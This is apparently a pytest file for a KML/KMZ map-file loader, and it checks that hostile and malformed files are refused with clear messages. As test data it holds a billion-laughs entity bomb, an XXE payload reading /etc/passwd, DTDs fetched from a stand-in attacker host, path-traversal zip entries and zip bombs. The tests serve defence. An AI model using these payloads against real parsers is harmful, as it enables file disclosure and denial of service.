"""Hostile and broken KML/KMZ files fail fast with a clear message, never a hang or a traceback."""
from __future__ import annotations

import struct
import time
import zipfile
from pathlib import Path

import pytest

from loaders import safe_zip
from loaders.errors import ImportFileError, UnsafeFileError
from loaders.kml import features_from_kml, features_from_kmz

PLACEMARK = b"<Placemark><name>A</name><Point><coordinates>1,2</coordinates></Point></Placemark>"
KML = b'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>' + PLACEMARK + b"</Document></kml>"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE kml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&lol9;</name>
<Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&secret;</name>
<Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE kml SYSTEM "http://attacker.example/evil.dtd">
<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>
"""


def _zip(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=compression)
    return path.read_bytes()


def _patch_central_directory(data: bytes, *, file_size: int | None = None, flags: int | None = None) -> bytes:
    """Rewrite the first member's directory entry (and local header) to forge sizes or flags."""
    data = bytearray(data)
    central = data.index(b"PK\x01\x02")
    if file_size is not None:
        struct.pack_into("<I", data, central + 24, file_size)
        struct.pack_into("<I", data, 22, file_size)
    if flags is not None:
        struct.pack_into("<H", data, central + 8, flags)
        struct.pack_into("<H", data, 6, flags)
    return bytes(data)


# --------------------------------------------------------------------------- XML attacks
@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "dtd", "param"]
)
def test_dtds_and_entities_are_refused_quickly(payload):
    start = time.perf_counter()
    with pytest.raises(UnsafeFileError, match=r"evil\.kml: the file declares a DTD.*refused.*Export the map again"):
        features_from_kml(payload, "evil.kml")
    assert time.perf_counter() - start < 5


def test_xxe_message_does_not_leak_the_file():
    with pytest.raises(UnsafeFileError) as info:
        features_from_kml(XXE, "evil.kml")
    assert "root:" not in str(info.value)


def test_billion_laughs_inside_a_kmz(tmp_path):
    data = _zip(tmp_path / "evil.kmz", {"doc.kml": BILLION_LAUGHS})
    with pytest.raises(UnsafeFileError, match=r"evil\.kmz \(doc\.kml\): the file declares a DTD"):
        features_from_kmz(data, "evil.kmz")


def test_empty_files():
    with pytest.raises(ImportFileError, match=r"empty\.kml: the file is empty \(0 bytes\)"):
        features_from_kml(b"", "empty.kml")
    with pytest.raises(ImportFileError, match=r"empty\.kmz: the file is empty \(0 bytes\)"):
        features_from_kmz(b"", "empty.kmz")


def test_whitespace_only_file():
    expected = r"blank\.kml: not valid XML at line 3, column 2 \(no element found\).*empty or was cut short"
    with pytest.raises(ImportFileError, match=expected):
        features_from_kml(b"  \n\n ", "blank.kml")


def test_truncated_file_names_line_and_column():
    expected = r"cut\.kml: not valid XML at line 1, column 121 \(no element found\).*cut short\. Export or download"
    with pytest.raises(ImportFileError, match=expected):
        features_from_kml(KML[:120], "cut.kml")


def test_invalid_utf8_bytes():
    data = KML.replace(b"<name>A</name>", b"<name>\xff\xfe</name>")
    with pytest.raises(ImportFileError, match=r"bad\.kml: not valid XML at line 1, column \d+ \(not well-formed"):
        features_from_kml(data, "bad.kml")


def test_html_page_saved_instead_of_kml():
    with pytest.raises(ImportFileError, match=r"page\.kml: this is XML but not KML \(its root element is <html>"):
        features_from_kml(b"<html><body><p>My Maps</p></body></html>", "page.kml")


def test_deeply_nested_elements_do_not_crash():
    depth = 200_000
    data = (b'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>' + b"<x>" * depth + b"</x>" * depth
            + PLACEMARK + b"</Document></kml>")
    assert features_from_kml(data, "deep.kml").accepted == 1


def test_deeply_nested_folders_stay_linear():
    depth = 5_000
    data = (b'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>' + b"<Folder><name>f</name>" * depth
            + PLACEMARK + b"</Folder>" * depth + b"</Document></kml>")
    start = time.perf_counter()
    result = features_from_kml(data, "deep.kml")
    assert time.perf_counter() - start < 10
    assert result.features.iloc[0]["source_ref"] == "folder '…/" + "/".join(["f"] * 20) + "' › placemark 1"


def test_deeply_nested_multigeometry_is_rejected_not_recursed():
    depth = 10_000
    data = (b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>M</name>' + b"<MultiGeometry>" * depth
            + b"<Point><coordinates>1,2</coordinates></Point>" + b"</MultiGeometry>" * depth + b"</Placemark></kml>")
    result = features_from_kml(data, "deep.kml")
    assert "nested more than 32 levels" in result.rejected[0].reason


# --------------------------------------------------------------------------- zip attacks
def test_kmz_that_is_not_a_zip():
    with pytest.raises(ImportFileError, match=r"x\.kmz: not a readable KMZ.*rename it to \.kml"):
        features_from_kmz(KML, "x.kmz")
    with pytest.raises(ImportFileError, match=r"y\.kmz: not a readable KMZ.*export the map again"):
        features_from_kmz(b"\x00\x01 random bytes" * 10, "y.kmz")


def test_truncated_zip(tmp_path):
    data = _zip(tmp_path / "t.kmz", {"doc.kml": KML * 50})
    with pytest.raises(ImportFileError, match=r"t\.kmz: not a readable KMZ"):
        features_from_kmz(data[: len(data) // 2], "t.kmz")


def test_zip_without_kml(tmp_path):
    data = _zip(tmp_path / "pics.kmz", {"images/icon-1.png": b"png", "readme.txt": b"hi"})
    expected = r"pics\.kmz: the KMZ holds no \.kml file \(found images/icon-1\.png, readme\.txt\)"
    with pytest.raises(ImportFileError, match=expected):
        features_from_kmz(data, "pics.kmz")


@pytest.mark.parametrize(
    ("member", "problem"),
    [("../../etc/doc.kml", "climbs out"), ("/etc/doc.kml", "absolute path"), ("C:/x/doc.kml", "drive letter"),
     ("images\\..\\..\\doc.kml", "climbs out")],
)
def test_path_traversal_members_are_refused(tmp_path, member, problem):
    data = _zip(tmp_path / "slip.kmz", {member: KML})
    with pytest.raises(UnsafeFileError, match=rf"slip\.kmz: the archive entry .* {problem}.*refused as unsafe"):
        features_from_kmz(data, "slip.kmz")


def test_zip_bomb_by_ratio_is_refused(tmp_path):
    bomb = KML[:-len(b"</Document></kml>")] + b" " * (30 * 1024 * 1024) + b"</Document></kml>"
    data = _zip(tmp_path / "bomb.kmz", {"doc.kml": bomb})
    assert len(data) < 1_000_000
    start = time.perf_counter()
    with pytest.raises(UnsafeFileError, match=r"bomb\.kmz: 'doc\.kml' is compressed \d+:1.*zip bomb"):
        features_from_kmz(data, "bomb.kmz")
    assert time.perf_counter() - start < 5


def test_zip_bomb_by_declared_size_is_refused(tmp_path):
    data = _patch_central_directory(_zip(tmp_path / "big.kmz", {"doc.kml": KML}), file_size=300 * 1024 * 1024)
    expected = r"big\.kmz: 'doc\.kml' would unpack to 300 MB \(limit 200 MB\).*zip bomb"
    with pytest.raises(UnsafeFileError, match=expected):
        features_from_kmz(data, "big.kmz")


def test_zip_that_lies_about_a_small_size_is_stopped(tmp_path):
    data = _patch_central_directory(_zip(tmp_path / "liar.kmz", {"doc.kml": KML * 100}), file_size=64)
    with pytest.raises(ImportFileError, match=r"liar\.kmz"):
        features_from_kmz(data, "liar.kmz")


def test_encrypted_member(tmp_path):
    data = _patch_central_directory(_zip(tmp_path / "locked.kmz", {"doc.kml": KML}), flags=0x1)
    with pytest.raises(ImportFileError, match=r"locked\.kmz: 'doc\.kml' cannot be (opened|unpacked).*encrypted"):
        features_from_kmz(data, "locked.kmz")


def test_capped_reader_stops_at_the_limit(tmp_path):
    data = _zip(tmp_path / "ok.kmz", {"doc.kml": KML * 20})
    archive = safe_zip.open_zip(data, "ok.kmz")
    info = archive.getinfo("doc.kml")
    with pytest.raises(UnsafeFileError, match=r"ok\.kmz: 'doc\.kml' would unpack to"):
        safe_zip.open_member(archive, info, "ok.kmz", max_bytes=100)
    assert safe_zip.read_member(archive, info, "ok.kmz") == KML * 20


def test_too_many_members(tmp_path, monkeypatch):
    monkeypatch.setattr(safe_zip, "MAX_MEMBERS", 3)
    data = _zip(tmp_path / "many.kmz", {f"images/{i}.png": b"x" for i in range(5)} | {"doc.kml": KML})
    with pytest.raises(UnsafeFileError, match=r"many\.kmz: the archive lists 6 entries"):
        features_from_kmz(data, "many.kmz")


def test_placemarks_and_folders_nested_where_they_do_not_belong_are_still_counted():
    inner = b"<Folder><name>Hubs</name>" + PLACEMARK + b"</Folder>"
    data = (b'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
            b"<Placemark><name>Outer</name>" + inner + b"<MultiGeometry>" + inner
            + b"<Point><coordinates>3,4</coordinates></Point></MultiGeometry></Placemark>"
            b"<NetworkLink>" + inner + b"<Link><href>https://example.org/x.kml</href></Link></NetworkLink>"
            b"<Style>" + PLACEMARK + b"</Style></Document></kml>")
    result = features_from_kml(data, "odd.kml")
    assert result.rows_read == 5
    assert result.accepted + len(result.rejected) == 5
    refs = list(result.features["source_ref"]) + [r.where for r in result.rejected]
    assert "document › placemark 1" in refs
    assert sum("outside any folder" in ref for ref in refs) == 4


def test_entity_reference_without_a_dtd_is_a_clear_xml_error():
    # No DTD means the fast C parser reads the file; an entity it cannot know is an error.
    data = b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&lol9;</name></Placemark></kml>'
    with pytest.raises(ImportFileError, match=r"line 1, column \d+ \(undefined entity\)"):
        features_from_kml(data, "laughs.kml")


def test_a_dtd_after_comments_and_a_declaration_is_still_refused():
    data = (b'<?xml version="1.0"?>\n<!-- exported -->\n<!DOCTYPE kml [<!ENTITY a "x">]>\n'
            b'<kml><Placemark><name>&a;</name></Placemark></kml>')
    with pytest.raises(UnsafeFileError, match="declares a DTD"):
        features_from_kml(data, "dtd.kml")
